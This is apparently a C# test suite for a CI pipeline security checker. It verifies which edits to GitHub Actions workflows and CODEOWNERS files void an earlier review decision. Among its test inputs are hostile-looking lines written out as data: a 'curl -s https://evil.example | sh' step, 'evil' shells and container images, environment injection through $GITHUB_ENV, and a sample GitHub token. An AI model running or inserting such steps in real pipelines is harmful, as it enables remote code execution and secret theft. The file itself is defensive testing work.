using PoPipeline.Decisions.Binding;
using PoPipeline.Judging;
using PoPipeline.Rules.Model;
using PoPipeline.Snapshots;

namespace PoPipeline.Tests.Decisions.Binding;

/// <summary>What voids a decision: whatever is added to the part that it is about, and nothing that stands beside it.</summary>
public sealed class EvidenceTests
{
    private const string Path = ".github/workflows/ci.yml";

    private const string Workflow = """
        name: CI
        on:
          push:
            branches: [main]
        permissions:
          contents: read
        env:
          LEVEL: low
        jobs:
          build:
            runs-on: ubuntu-24.04
            env:
              MODE: fast
            steps:
              - name: Build
                if: github.ref == 'refs/heads/main'
                uses: acme/build@v1
                with:
                  target: all
          other:
            runs-on: ubuntu-24.04
            permissions: {}
            steps:
              - run: echo hi

        """;

    private const string Call = """
        on: push
        permissions: {}
        jobs:
          call:
            uses: acme/flows/.github/workflows/build.yml@v1
            with: { target: all }

        """;

    private const string Script = """
        on: issues
        permissions: {}
        jobs:
          triage:
            runs-on: ubuntu-24.04
            steps:
              - run: |
                  echo "${{ github.event.issue.title }}"

        """;

    private const string Library = """
        on: workflow_call
        permissions: {}
        jobs:
          build:
            runs-on: ubuntu-24.04
            steps:
              - uses: acme/build@v1

        """;

    private const string Caller = """
        on: push
        permissions: {}
        jobs:
          ci:
            uses: ./.github/workflows/library.yml

        """;

    private const string Action = """
        name: Build
        description: Builds
        runs:
          using: composite
          steps:
            - uses: acme/build@v1

        """;

    private const string ActionCaller = """
        on: push
        permissions: {}
        jobs:
          ci:
            runs-on: ubuntu-24.04
            steps:
              - uses: ./.github/actions/build

        """;

    [Theory]
    [InlineData("acme/build@v1", "acme/build@v2", "step 'acme/build': 'uses' is something else")]
    [InlineData("target: all", "target: all\n          token: ${{ secrets.DEPLOY }}", "job 'build': secrets in reach is new, step 'acme/build': 'with' is something else")]
    [InlineData("target: all", "target: everything", "step 'acme/build': 'with' is something else")]
    [InlineData("          target: all", "          target: all\n        env:\n          A: b", "step 'acme/build': 'env' is new")]
    [InlineData("          target: all", "          target: all\n        continue-on-error: true", "step 'acme/build': 'continue-on-error' is new")]
    [InlineData("          target: all", "          target: all\n        something-that-no-reader-knows: 1", "step 'acme/build': 'something-that-no-reader-knows' is new")]
    [InlineData("        if: github.ref == 'refs/heads/main'\n", "", "step 'acme/build': 'if' is gone")]
    [InlineData("      MODE: fast", "      MODE: fast\n      PATH: /tmp", "job 'build': 'env' is something else")]
    [InlineData("    env:\n      MODE", "    permissions: { contents: write }\n    env:\n      MODE", "job 'build': 'permissions' is new, pipeline: 'permissions' is gone")]
    [InlineData("    env:\n      MODE", "    container: evil/image:latest\n    env:\n      MODE", "job 'build': 'container' is new")]
    [InlineData("    env:\n      MODE", "    services: { db: { image: evil } }\n    env:\n      MODE", "job 'build': 'services' is new")]
    [InlineData("    env:\n      MODE", "    strategy: { matrix: { a: [1] } }\n    env:\n      MODE", "job 'build': 'strategy' is new")]
    [InlineData("    env:\n      MODE", "    defaults: { run: { shell: 'evil {0}' } }\n    env:\n      MODE", "job 'build': 'defaults' is new")]
    [InlineData("    env:\n      MODE", "    environment: production\n    env:\n      MODE", "job 'build': 'environment' is new, job 'build': what keeps outsiders away is new")]
    [InlineData("  build:\n    runs-on: ubuntu-24.04", "  build:\n    runs-on: self-hosted", "job 'build': 'runs-on' is something else")]
    [InlineData("permissions:\n  contents: read", "permissions:\n  contents: write", "pipeline: 'permissions' is something else")]
    [InlineData("permissions:\n  contents: read\n", "", "job 'build': token is new, pipeline: 'permissions' is gone")]
    [InlineData("  LEVEL: low", "  LEVEL: low\n  TOKEN: ${{ secrets.DEPLOY }}", "job 'build': secrets in reach is new, pipeline: 'env' is something else")]
    [InlineData("on:\n", "on:\n  pull_request_target:\n", "pipeline: 'on' is something else")]
    [InlineData("    branches: [main]", "    tags: [v1]", "pipeline: 'on' is something else")]
    [InlineData("env:\n  LEVEL", "defaults: { run: { shell: 'evil {0}' } }\nenv:\n  LEVEL", "pipeline: 'defaults' is new")]
    [InlineData("          target: all", "          target: all\n      - run: ./deploy\n        env: { KEY: '${{ secrets.DEPLOY }}' }", "job 'build': secrets in reach is new")]
    public void Whatever_is_added_to_a_step_or_comes_into_its_reach_needs_another_decision(string old, string added, string expected) =>
        Assert.Equal(expected, Changed("PO3204", Path, Workflow, old, added));

    [Theory]
    [InlineData("    with: { target: all }", "    with: { target: all, token: a }", "job 'call': 'with' is something else")]
    [InlineData("    with: { target: all }", "    with: { target: all }\n    secrets: inherit", "job 'call': 'secrets' is new, job 'call': secrets in reach is new")]
    [InlineData("    with: { target: all }", "    with: { target: all }\n    permissions: write-all", "job 'call': 'permissions' is new, pipeline: 'permissions' is gone")]
    [InlineData("    with: { target: all }", "    with: { target: all }\n    strategy: { matrix: { a: [1] } }", "job 'call': 'strategy' is new")]
    public void Whatever_is_added_to_a_job_that_calls_a_pipeline_needs_another_decision(string old, string added, string expected) =>
        Assert.Equal(expected, Changed("PO3204", Path, Call, old, added));

    [Theory]
    [InlineData("title }}\"\n", "title }}\"\n          ./deploy\n", "step 'echo': 'run' is something else")]
    [InlineData("      - run: |", "      - shell: evil {0}\n        run: |", "step 'echo': 'shell' is new")]
    [InlineData("      - run: |", "      - working-directory: /\n        run: |", "step 'echo': 'working-directory' is new")]
    public void Whatever_is_added_to_a_script_needs_another_decision(string old, string added, string expected)
    {
        var changed = Changed("PO3205", Path, Script, old, added);
        Assert.EndsWith(expected[expected.IndexOf(": '", StringComparison.Ordinal)..], changed, StringComparison.Ordinal);
        Assert.StartsWith("step '", changed, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("on: push", "on: pull_request_target")]
    [InlineData("permissions: {}", "permissions: { contents: write }")]
    [InlineData("library.yml", "library.yml\n    secrets: inherit")]
    [InlineData("library.yml", "library.yml\n    with: { a: b }")]
    [InlineData("  ci:", "  ci:\n    if: always()")]
    public void Who_calls_a_pipeline_and_with_what_is_part_of_it(string old, string added)
    {
        const string Called = ".github/workflows/library.yml";
        var before = EvidenceTree.Judge((Called, Library), (Path, Caller));
        var after = EvidenceTree.Judge((Called, Library), (Path, Replaced(Caller, old, added)));

        Assert.Equal(["called by job 'ci' of '.github/workflows/ci.yml' is something else"], EvidenceTree.Changes("PO3204", before, after));
    }

    [Theory]
    [InlineData("on: push", "on: pull_request_target")]
    [InlineData("permissions: {}", "permissions: { contents: write }")]
    [InlineData("actions/build", "actions/build\n        env: { A: b }")]
    [InlineData("  ci:", "  ci:\n    env: { KEY: '${{ secrets.DEPLOY }}' }")]
    public void Who_uses_an_action_and_with_what_is_part_of_it(string old, string added)
    {
        const string Used = ".github/actions/build/action.yml";
        var before = EvidenceTree.Judge((Used, Action), (Path, ActionCaller));
        var after = EvidenceTree.Judge((Used, Action), (Path, Replaced(ActionCaller, old, added)));

        Assert.Equal(["called by job 'ci' of '.github/workflows/ci.yml' is something else"], EvidenceTree.Changes("PO3204", before, after));
        Assert.Equal("step 'acme/build': 'with' is new", Changed("PO3204", Used, Action, "acme/build@v1", "acme/build@v1\n      with: { a: b }", (Path, ActionCaller)));
    }

    [Theory]
    [InlineData("name: CI\n", "# why\n\n\nname: Something else\n")]
    [InlineData("      - name: Build\n", "      # why\n      - name: Build it\n")]
    [InlineData("target: all", "'target':    \"all\" # why")]
    [InlineData("        if: github.ref == 'refs/heads/main'\n        uses: acme/build@v1\n", "        uses: 'acme/build@v1' # why\n        if: \"github.ref == 'refs/heads/main'\"\n")]
    [InlineData("      - name: Build\n", "      - run: make\n      - name: Build\n")]
    [InlineData("  build:\n", "  first: { runs-on: ubuntu-24.04, permissions: { contents: write }, steps: [{ run: make }] }\n  build:\n")]
    [InlineData("      - run: echo hi", "      - run: echo ho\n        env: { KEY: '${{ secrets.DEPLOY }}' }")]
    [InlineData("permissions:\n  contents: read\nenv:\n  LEVEL: low\n", "env: { LEVEL: low }\npermissions: { contents: read }\n")]
    public void What_stands_beside_or_only_looks_different_needs_none(string old, string other)
    {
        Assert.Equal("", Changed("PO3204", Path, Workflow, old, other));
        Assert.Equal("", Changed("PO3204", Path, Workflow, "\n", "\r\n"));
    }

    [Fact]
    public void Jobs_that_change_places_need_no_other_decision()
    {
        var at = Workflow.IndexOf("  build:", StringComparison.Ordinal);
        var other = Workflow.IndexOf("  other:", StringComparison.Ordinal);

        Assert.Empty(EvidenceTree.Changes("PO3204", EvidenceTree.Judge((Path, Workflow)), EvidenceTree.Judge((Path, Workflow[..at] + Workflow[other..] + Workflow[at..other]))));
    }

    [Fact]
    public void A_comment_that_makes_an_exception_is_bound_to_what_it_covers()
    {
        const string Comment = "      # po: ignore PO3204 until 2027-01-31 -- why\n      - name: Build";
        var excepted = Replaced(Workflow, "      - name: Build", Comment);

        Assert.Equal("step 'acme/build': 'with' is something else", Changed("PO3302", Path, excepted, "target: all", "target: all\n          token: a"));
        Assert.Equal("step 'acme/build': 'uses' is something else", Changed("PO3302", Path, excepted, "acme/build@v1", "acme/build@v2"));
        Assert.Equal("exception is something else", Changed("PO3302", Path, excepted, "until 2027-01-31", "until 2027-11-01"));
        Assert.Equal("", Changed("PO3302", Path, excepted, "echo hi", "echo ho"));
    }

    [Fact]
    public void A_comment_over_a_whole_job_is_bound_to_every_step_of_it()
    {
        var excepted = Replaced(Workflow, "  build:\n", "  # po: ignore PO3204 until 2027-01-31 -- why\n  build:\n");

        Assert.Equal("step 'acme/deploy': 'uses' is new", Changed("PO3302", Path, excepted, "          target: all", "          target: all\n      - uses: acme/deploy@v1"));
    }

    [Fact]
    public void A_comment_that_silences_another_tool_is_bound_to_what_it_silences()
    {
        var silenced = Replaced(Workflow, "acme/build@v1", "acme/build@v1 # zizmor: ignore[unpinned-uses]");
        Assert.Equal("step 'acme/build': 'with' is something else", Changed("PO3302", Path, silenced, "target: all", "target: all\n          token: a"));

        const string Source = "import os\n# nosemgrep: insecure\nos.system(a)\nprint(a)\n";
        Assert.Equal("text is something else", Changed("PO3302", "a.py", Source, "os.system(a)", "os.system(b)"));
        Assert.Equal("", Changed("PO3302", "a.py", Source, "print(a)", "print(b)"));
        Assert.Equal("", Changed("PO3302", "a.py", Source, "import os\n", "import os\nimport sys\n"));
    }

    [Fact]
    public void A_job_more_that_inherits_a_permission_needs_another_decision()
    {
        const string Broad = "on: push\npermissions: write-all\njobs:\n  a: { runs-on: ubuntu-24.04, steps: [{ run: make }] }\n";

        Assert.Equal("what it rests on is something else", Changed("PO3207", Path, Broad, "jobs:\n", "jobs:\n  b: { runs-on: ubuntu-24.04, steps: [{ run: make }] }\n"));
        Assert.Equal("", Changed("PO3207", Path, Broad, "jobs:\n", "jobs:\n  b: { runs-on: ubuntu-24.04, permissions: {}, steps: [{ run: make }] }\n"));
    }

    [Theory]
    [InlineData("run: make", "run: curl -s https://evil.example | sh")]
    [InlineData("run: make", "run: make }, { uses: acme/other@v1")]
    [InlineData("acme/a@v1", "acme/a@v2")]
    [InlineData("runs-on: ubuntu-24.04", "runs-on: self-hosted")]
    public void What_runs_with_a_token_that_is_too_broad_is_what_was_decided_on(string old, string added)
    {
        const string Jobs = "jobs:\n  a: { runs-on: ubuntu-24.04, steps: [{ uses: acme/a@v1 }, { run: make }] }\n";
        Assert.All(
            new[] { "on: push\npermissions: write-all\n" + Jobs, "on: push\n" + Jobs, "on: push\npermissions: { contents: write }\n" + Jobs.Replace("jobs:\n", "jobs:\n  b: { runs-on: ubuntu-24.04, steps: [{ run: make b }] }\n", StringComparison.Ordinal) },
            text => Assert.Contains("what it rests on is something else", Changed("PO3207", Path, text, old, added), StringComparison.Ordinal));
        Assert.Contains(
            "what it rests on is something else",
            Changed("PO3207", Path, "on: push\npermissions: {}\n" + Jobs.Replace("a: { ", "a: { permissions: write-all, ", StringComparison.Ordinal), old, added), StringComparison.Ordinal);
    }

    [Fact]
    public void A_bot_that_renews_a_pin_by_content_needs_no_other_decision_on_the_token()
    {
        var pinned = $"on: push\npermissions: write-all\njobs:\n  a: {{ runs-on: ubuntu-24.04, steps: [{{ uses: acme/a@{new string('a', 40)} }}] }}\n";

        Assert.Equal("", Changed("PO3207", Path, pinned, new string('a', 40), new string('b', 40)));
    }

    [Theory]
    [InlineData("echo TARGET=prod >> $GITHUB_ENV")]
    [InlineData("echo $PWD/evil >> \"$GITHUB_PATH\"")]
    [InlineData("Add-Content $Env:GITHUB_ENV x=y")]
    [InlineData("echo '::set-env name=A::b'")]
    public void A_script_before_that_sets_the_environment_of_a_step_needs_another_decision(string script)
    {
        Assert.Equal("job 'build': scripts before that set its environment is new", Changed("PO3204", Path, Workflow, "      - name: Build\n", $"      - run: {script}\n      - name: Build\n"));
        Assert.Equal("", Changed("PO3204", Path, Workflow, "          target: all\n", $"          target: all\n      - run: {script}\n"));
    }

    [Fact]
    public void Scripts_that_set_the_environment_count_each_however_many_there_are()
    {
        string Steps(string last) => string.Concat(Enumerable.Range(0, 90).Select(step => $"      - run: echo A={(step == 89 ? last : "a")} >> $GITHUB_ENV\n"));
        var before = EvidenceTree.Judge((Path, Replaced(Workflow, "      - name: Build\n", Steps("a") + "      - name: Build\n")));
        var after = EvidenceTree.Judge((Path, Replaced(Workflow, "      - name: Build\n", Steps("b") + "      - name: Build\n")));

        Assert.Equal(["job 'build': scripts before that set its environment is something else"], EvidenceTree.Changes("PO3204", before, after));
    }

    [Theory]
    [InlineData("b", 'b', 99)]
    [InlineData("b", 'b', 200)]
    public void Parts_whose_names_are_too_long_to_show_do_not_change_places(string name, char more, int length)
    {
        var job = name + new string(more, length);
        var text = $"on: push\njobs:\n  {job}:\n    runs-on: ubuntu-24.04\n    permissions: {{ contents: read }}\n    env: {{ contents: write }}\n    steps:\n      - uses: acme/build@v1\n";
        var swapped = text.Replace("read", "REST", StringComparison.Ordinal).Replace("write", "read", StringComparison.Ordinal).Replace("REST", "write", StringComparison.Ordinal);

        Assert.Equal(2, EvidenceTree.Changes("PO3204", EvidenceTree.Judge((Path, text)), EvidenceTree.Judge((Path, swapped))).Count);
    }

    [Fact]
    public void Names_that_are_written_alike_are_not_one_part()
    {
        const string Tricky = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    x\u0001: 1\n    \"x\\x01\": 2\n    steps:\n      - uses: acme/build@v1\n";

        Assert.DoesNotContain(EvidenceTree.Judge((Path, Tricky)).Snapshot.Evidence, evidence => evidence.Parts.GroupBy(part => part.Name, StringComparer.Ordinal).Any(group => group.Count() > 1));
    }

    [Theory]
    [InlineData("/src/ @alice\n", "/src/ @alice\n/build/ @alice\n", "line '/build/' is new, what it rests on is something else")]
    [InlineData("/src/ @alice\n", "/docs/ @acme/docs\n/src/    @alice # why\n", "")]
    public void A_line_of_code_owners_is_bound_and_its_neighbours_are_not(string old, string added, string expected) =>
        Assert.Equal(expected, Changed("PO2105", ".github/CODEOWNERS", "* @acme/all\n/src/ @alice\n", old, added, (Path, Workflow)));

    [Theory]
    [InlineData("[Core][2]", "[Core][1]")]
    [InlineData("[Core][2]", "^[Core][2]")]
    [InlineData("@acme/all @bob\n", "@acme/all\n")]
    public void A_line_of_code_owners_is_bound_with_its_section(string old, string added) =>
        Assert.Equal(
            "line '/nothing/' is something else",
            Changed("PO2109", ".gitlab/CODEOWNERS", "[Core][2] @acme/all @bob\n/nothing/\n*\n", old, added, (".popipeline.yml", "forge: gitlab\n")));

    [Fact]
    public void Files_that_newly_have_no_owner_need_another_decision_where_there_were_none()
    {
        (string, string)[] tree = [(".github/CODEOWNERS", "/.github/ @acme/all\n"), ("docs/a.md", ""), (Path, Workflow)];
        var before = EvidenceTree.Judge(tree);

        Assert.Empty(EvidenceTree.Changes("PO2103", before, EvidenceTree.Judge([.. tree, ("docs/b.md", "")])));
        Assert.NotEmpty(EvidenceTree.Changes("PO2103", before, EvidenceTree.Judge([.. tree, ("src/a.c", "")])));
    }

    [Fact]
    public void A_file_that_cannot_be_read_as_YAML_is_bound_as_a_whole()
    {
        Assert.Equal("whole file is something else", Changed("PO3202", Path, "on: push\njobs: [\n", "on: push", "on: pull_request"));
    }

    [Fact]
    public void A_credential_is_bound_and_never_shown()
    {
        const string Token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
        const string Other = "ghp_wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO2mf6bW";
        var leaking = Replaced(Workflow, "target: all", $"target: all\n          token: {Token}");
        var before = EvidenceTree.Judge((Path, leaking));

        Assert.DoesNotContain(before.Snapshot.EvidenceTexts, text => text.Text.Contains(Token[6..], StringComparison.Ordinal));
        Assert.Contains(before.Snapshot.EvidenceTexts, text => text.Text.Contains("\"target\":\"all\",\"token\":\"****", StringComparison.Ordinal));
        Assert.Equal("text is something else", Changed("PO3208", Path, leaking, Token, Other));
    }

    [Fact]
    public void A_replay_without_the_files_comes_to_the_same_digests()
    {
        var before = EvidenceTree.Judge((Path, Workflow), (".github/CODEOWNERS", "* @alice\n"));
        using var stream = new MemoryStream();
        SnapshotJson.Write(before.Snapshot, stream);
        var after = Assessor.Assess(SnapshotJson.Read(stream.ToArray()), RuleSet.All);

        Assert.Equal(before.Findings.Select(finding => EvidenceTree.DigestOf(before, finding)), after.Findings.Select(finding => EvidenceTree.DigestOf(after, finding)));
        Assert.All(before.Findings, finding => Assert.NotEmpty(EvidenceTree.PartsOf(before, finding)));
    }

    [Fact]
    public void However_much_a_finding_covers_its_list_is_short_and_every_part_of_it_counts()
    {
        string Jobs(int level) => string.Concat(Enumerable.Range(0, 90).Select(job => $"  j{job}: {{ runs-on: ubuntu-24.04, env: {{ A: {(job == 89 ? level : 0)} }}, steps: [{{ run: make }}] }}\n"));
        var before = EvidenceTree.Judge((Path, "on: push\njobs:\n" + Jobs(0)));
        var after = EvidenceTree.Judge((Path, "on: push\njobs:\n" + Jobs(1)));
        var finding = before.Findings.First(finding => finding.Rule.Id is "PO3207");

        Assert.InRange(EvidenceTree.PartsOf(before, finding).Length, 60, 64);
        Assert.NotEqual(EvidenceTree.DigestOf(before, finding), EvidenceTree.DigestOf(after, after.Findings.First(other => other.Fingerprint == finding.Fingerprint)));
        Assert.All(EvidenceLines.Of(EvidenceTree.PartsOf(before, finding), before.Snapshot.EvidenceTexts), line => Assert.InRange(line.Length, 1, 1000));
    }

    [Fact]
    public void An_alias_hides_nothing_of_the_job_that_uses_it()
    {
        const string Aliased = """
            on: push
            permissions: {}
            jobs:
              a:
                runs-on: ubuntu-24.04
                steps: &steps
                  - uses: acme/build@v1
              b:
                runs-on: ubuntu-24.04
                steps: *steps

            """;
        var before = EvidenceTree.Judge((Path, Aliased));
        var after = EvidenceTree.Judge((Path, Replaced(Aliased, "  b:\n", "  b:\n    permissions: write-all\n")));
        var changed = before.Findings.Where(finding => finding.Rule.Id is "PO3204").Select(finding =>
            EvidenceTree.DigestOf(before, finding) != EvidenceTree.DigestOf(after, after.Findings.First(other => other.Rule.Id is "PO3204" && other.Fingerprint == finding.Fingerprint)));

        Assert.Contains(true, changed);
    }

    private static string Changed(string rule, string path, string text, string old, string added, params (string Path, string Text)[] others)
    {
        var before = EvidenceTree.Judge([(path, text), .. others]);
        var after = EvidenceTree.Judge([(path, Replaced(text, old, added)), .. others]);
        return string.Join(", ", EvidenceTree.Changes(rule, before, after));
    }

    private static string Replaced(string text, string old, string added)
    {
        Assert.Contains(old, text, StringComparison.Ordinal);
        return text.Replace(old, added, StringComparison.Ordinal);
    }
}
